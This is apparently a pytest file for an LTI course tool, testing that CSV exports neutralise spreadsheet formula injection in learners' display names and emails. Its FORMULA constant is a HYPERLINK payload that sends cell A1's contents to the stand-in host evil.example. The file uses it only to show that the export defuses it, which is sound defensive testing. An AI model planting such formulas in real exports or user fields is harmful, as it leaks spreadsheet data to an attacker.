"""Exports a spreadsheet opens as data (issue 25, item 1): a learner whose LMS display name is a
formula gets text, not a live formula, into the instructor's class.csv (OWASP's rule)."""

from __future__ import annotations

import csv
import io

import pytest
import requests
from test_access import _api, _placement_id, _token

from devlms.browser import Browser
from devlms.config import LEARNER, Person
from lti_service.core.spreadsheet import FORMULA_STARTS, csv_text, safe_cell

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("Ada " + start) == "Ada " + start, "only the first character counts"
    assert safe_cell(-1.5) == -1.5 and safe_cell(3) == 3, "the tool's own numbers stay numbers"
    row = next(csv.reader(io.StringIO(csv_text(["h"], [[start + "cmd"]]).split("\n", 1)[1])))
    assert row == ["'" + start + "cmd"]


def test_a_formula_display_name_reaches_class_csv_as_text(sqlite_stack) -> None:  # type: ignore[no-untyped-def]
    stack = sqlite_stack
    stack.lms_config.people["mallory"] = Person("mallory", FORMULA, "@evil.example",
                                                (LEARNER,))
    link = stack.deep_link(["arrays-04.checkpoint"])[0]
    page = stack.launch(Browser(), link["id"], "mallory")
    r = _api(stack, "POST", f"/api/placements/{_placement_id(page)}/checkpoint-answers",
             _token(page), json={"choice": "a"})
    assert r.status_code == 201
    token = _token(stack.launch(Browser(), link["id"], "teacher"))
    export = requests.get(stack.tool_url + "/instructor/class.csv", params={"lt": token},
                          timeout=30)
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.text)))
    mallory = next(r for r in rows if r["user_id"] == "mallory")
    assert mallory["name"] == "'" + FORMULA and mallory["email"] == "'@evil.example"
    assert not any(cell.startswith(FORMULA_STARTS) for r in rows for cell in r.values())
    assert mallory["attempt"] == "1" and mallory["correct"] in ("0", "1")
